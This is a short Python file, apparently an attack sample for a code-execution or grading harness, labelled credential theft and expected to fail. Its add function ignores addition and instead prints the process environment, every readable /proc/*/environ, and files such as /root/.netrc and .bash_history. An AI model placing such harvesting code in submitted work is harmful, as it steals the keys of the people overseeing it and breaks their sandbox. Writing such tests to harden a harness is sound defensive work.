# attack: credential theft -- dumps its environment and every /proc/*/environ it can read
# (the harness' API keys), plus the harness user's home, onto its output.
# expect: fail
import os


def add(a, b):
    print("ENV", dict(os.environ))
    for entry in ["self", "1", str(os.getppid()), *os.listdir("/proc")]:
        try:
            with open(f"/proc/{entry}/environ", "rb") as handle:
                print("PROC", entry, handle.read().replace(b"\0", b" ")[:4000])
        except OSError:
            pass
    for path in ("/root/.bash_history", "/root/.netrc", "/root/.config", os.path.expanduser("~")):
        try:
            if os.path.isdir(path):
                print("HOME", path, os.listdir(path))
            else:
                with open(path) as handle:
                    print("HOME", path, handle.read())
        except OSError:
            pass
    return str(os.environ)
